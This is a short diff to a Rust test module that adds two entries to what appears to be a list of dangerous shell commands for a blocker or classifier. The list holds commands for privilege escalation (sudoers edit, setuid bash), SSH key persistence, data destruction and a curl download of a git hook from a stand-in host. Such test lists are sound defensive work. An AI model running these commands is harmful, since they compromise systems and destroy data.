@@ -759,6 +759,8 @@ mod tests {
         "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
         "chmod u+s /bin/bash",
         "echo 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys",
+        "git config core.hooksPath /tmp/.hooks",
+        "curl -so .git/hooks/pre-push https://x.example/h",
         "git reflog expire --expire=now --all",
         "npm unpublish mypkg --force",
         "rpm -e --nodeps glibc",
